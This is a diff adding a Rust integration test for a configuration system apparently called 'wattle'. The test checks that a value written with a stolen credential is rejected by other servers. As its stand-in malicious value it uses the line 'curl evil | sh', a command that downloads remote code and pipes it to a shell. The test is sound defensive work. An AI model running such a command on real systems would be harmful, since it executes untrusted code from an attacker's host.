@@ -5,7 +5,7 @@ use std::time::Duration;
 use wattle::author::{Export, Exports, Topology};
 use wattle::model::Value;
 use wattle_runtime::report::Picture;
-use wattle_runtime::seed::apply;
+use wattle_runtime::seed::{admit, apply, waiting};
 use wattle_runtime::space::{Content, Revision, Signer, Space, State, Status, Written};
 use wattle_tests::random::Anything;
 use wattle_tests::running::Stage;
@@ -234,4 +234,44 @@ async fn an_operator_is_told_and_may_put_a_value_of_their_own() {
     let set = wattle(&["set", "db/part/text", "by hand", "--force"]);
     assert_eq!(set.code, Some(0), "{set}");
     assert_eq!(wattle(&["get", "db/part/text"]).out, "by hand\n");
+}
+
+#[tokio::test]
+async fn what_a_server_publishes_counts_by_the_key_that_was_admitted() {
+    let mut stack = Stack::of("keyed", ZooKeeper::shared(), wired);
+    stack.options.admission = true;
+    let (operator, key) = (stack.operator().await, stack.options.key.clone());
+    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
+    let mut db = Db::of("db");
+    db.start(&stack).await;
+    done(&stack, "db/part").await;
+    for _ in 0..300 {
+        if !waiting(&operator, "keyed", &key, &[]).await.expect("it is known").come.is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let admitted = admit(&operator, "keyed", &key, &[]).await.expect("admits");
+    assert_eq!(admitted.admitted, ["db".into()]);
+    let [mut web, mut last] = ["web", "last"].map(Db::of);
+    for (agent, component) in [(&mut web, "web/part"), (&mut last, "last/part")] {
+        agent.start(&stack).await;
+        done(&stack, component).await;
+        assert_eq!(agent.ran.count(), 1);
+    }
+    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
+    for server in ["db", "web", "last"] {
+        says(&stack, server, None).await;
+    }
+    web.kill().await;
+    // The credential makes no values any more.
+    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
+    put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
+    let mut again = Db::of("web");
+    again.start(&stack).await;
+    says(&stack, "web", Some("db/part/text` is not believed: its server has not signed it so; ")).await;
+    assert_eq!(again.ran.count(), 0);
+    for mut agent in [db, last, again] {
+        agent.kill().await;
+    }
 }
